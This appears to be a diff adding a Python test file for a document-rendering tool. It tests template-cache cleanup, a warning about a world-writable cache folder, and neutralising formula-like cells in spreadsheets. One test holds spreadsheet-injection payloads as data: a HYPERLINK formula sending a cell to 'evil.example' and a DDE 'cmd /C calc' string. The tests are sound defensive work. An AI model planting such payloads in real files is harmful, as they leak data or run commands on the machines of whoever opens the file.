@@ -1,0 +1,171 @@
+"""Hostile and careless input, the twenty-seventh round (issue 10, bad input): what round 26 left
+(the templates' cache after a kill and in an unsafe folder, a formula-like text in the working
+copy, a very hidden sheet of an old .xls, a NUL in a file's name through the Python API) and the
+round's own attacks. Real files, real processes; each test fails without its mend."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+from helpers import python_process, soffice_convert
+from hostile import complaint, excel_form, write_json
+
+ROOT = Path(__file__).resolve().parents[1]
+
+
+# ---------------------------------------------------------------------------------- the templates' cache
+def _dead_pid() -> int:
+    done = subprocess.run(
+        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
+    )
+    return int(done.stdout)
+
+
+def test_what_a_writer_killed_in_the_templates_cache_left_is_removed_by_the_next_run(tmp_path):
+    """A process killed while writing a template's compiled code left its temporary file in the
+    cache folder for good (Jinja names it ``…cache<random>.tmp``, with nothing of its writer).
+    Now kesu writes it under a name carrying its process id, and the next process removes what
+    dead writers left; an hour-old file of Jinja's naming (a kesu before this round) too. A file
+    a live process is writing, and a young one, are left alone."""
+    cache = tmp_path / "cache"
+    folder = cache / "templates"
+    folder.mkdir(parents=True, mode=0o700)
+    cache.chmod(0o700)
+    dead = folder / f".__jinja2_abc.cache.{_dead_pid()}.140234.part"
+    live = folder / f".__jinja2_def.cache.{os.getpid()}.140234.part"
+    old = folder / "__jinja2_0123.cachexyz12345.tmp"
+    young = folder / "__jinja2_4567.cacheabc67890.tmp"
+    for path in (dead, live, old, young):
+        path.write_bytes(b"half a template's code")
+    hour_ago = time.time() - 2 * 3600
+    os.utime(old, (hour_ago, hour_ago))
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    write_json(inbox / "c.json", complaint())
+    done = python_process(
+        *(
+            "-m",
+            "kesu_docs",
+            "render",
+            str(inbox),
+            "-o",
+            str(tmp_path / "out"),
+            "--db",
+            str(tmp_path / "k.db"),
+        ),
+        cwd=tmp_path,
+        KESU_CACHE=str(cache),
+    )
+    assert done.returncode == 0, done.stderr
+    assert not dead.exists() and not old.exists()
+    assert live.exists() and young.exists()
+    kept = [p.name for p in folder.iterdir() if p.name.startswith("__jinja2_") and p.suffix == ".cache"]
+    assert kept  # the code compiled now is kept, written whole
+    assert not [
+        p for p in folder.iterdir() if p.name.endswith(".tmp") and p != young
+    ]  # none of Jinja's naming
+
+
+def test_a_templates_cache_others_can_write_in_is_said_once_and_not_used(tmp_path):
+    """``KESU_CACHE`` naming a folder every user can write in: the compiled code is not kept there
+    (round 26) — and now the clerk is told once why each run compiles again, and what to do, in
+    Chinese by default and in English with ``--lang en``; ``--jobs 2`` says it once too."""
+    cache = tmp_path / "shared-cache"
+    (cache / "templates").mkdir(parents=True)
+    (cache / "templates").chmod(0o777)
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    for i in range(6):
+        write_json(inbox / f"c{i}.json", complaint(order_no=f"SO-{i}"))
+    for args, words in (
+        ((), "不是只属于您的"),
+        (("--lang", "en"), "is not yours alone"),
+        (("--lang", "en", "--jobs", "2"), "is not yours alone"),
+    ):
+        out = tmp_path / f"out{len(args)}"
+        done = python_process(
+            *("-m", "kesu_docs", "render", str(inbox), "-o", str(out), "--db", str(tmp_path / "k.db"), *args),
+            cwd=tmp_path,
+            KESU_CACHE=str(cache),
+        )
+        assert done.returncode == 0, done.stderr
+        assert done.stderr.count(words) == 1, done.stderr
+        assert str(cache / "templates") in done.stderr and "KESU_CACHE" in done.stderr
+        assert len(list(out.glob("*.docx"))) == 6
+    assert not list((cache / "templates").iterdir())  # nothing written there
+    private = tmp_path / "own-cache"
+    done = python_process(
+        *(
+            "-m",
+            "kesu_docs",
+            "render",
+            str(inbox),
+            "-o",
+            str(tmp_path / "out9"),
+            "--db",
+            str(tmp_path / "k.db"),
+        ),
+        cwd=tmp_path,
+        KESU_CACHE=str(private),
+    )
+    assert done.returncode == 0 and "KESU_CACHE" not in done.stderr  # a private folder: nothing said
+
+
+# ---------------------------------------------------------------------------------- the working copy
+def test_a_customers_formula_like_text_is_quote_prefixed_in_the_working_copy(tmp_path):
+    """A form whose customer and description are text starting as a formula does, stored as
+    plain text cells (no quote prefix: a file made outside Excel, or by a script): the numbered
+    working copy, the one QA fills in next, kept them as plain text cells, which Excel and
+    LibreOffice turn into formulas as soon as the cell is edited. Now they carry Excel's quote
+    prefix, as kesu's own workbooks do; the text is the same, and no cell holds a formula."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    hostile = {
+        "customer": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+        "description": "+cmd|' /C calc'!A0 电容虚焊",
+        "order_no": "＝1+1",
+    }
+    (tmp_path / "inbox").mkdir()
+    source = excel_form(tmp_path / "inbox" / "form.xlsx", **hostile)
+    book = load_workbook(source)
+    for sheet in book.worksheets:  # as a file made outside Excel stores them: plain text cells
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value in hostile.values():
+                    cell.data_type = "s"
+                    cell.quotePrefix = False
+    book.save(source)
+    done = python_process(
+        *(
+            "-m",
+            "kesu_docs",
+            "render",
+            str(source.parent),
+            "-o",
+            str(tmp_path / "out"),
+            "--db",
+            str(tmp_path / "k.db"),
+        ),
+        cwd=tmp_path,
+    )
+    assert done.returncode == 0, done.stderr
+    [copy] = (tmp_path / "out").glob("form-*.xlsx")
+    with zipfile.ZipFile(copy) as archive:
+        assert not [
+            n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)
+        ]
+    found = {}
+    for sheet in load_workbook(copy).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value in hostile.values():
+                    found[cell.value] = (cell.data_type, bool(cell.quotePrefix))
+    assert found == {text: ("s", True) for text in hostile.values()}
+    shown = soffice_convert(copy, "csv", tmp_path / "csv").read_text(encoding="utf-8", errors="replace")
+    assert "+cmd|' /C calc'!A0" in shown  # LibreOffice shows the text, computes nothing
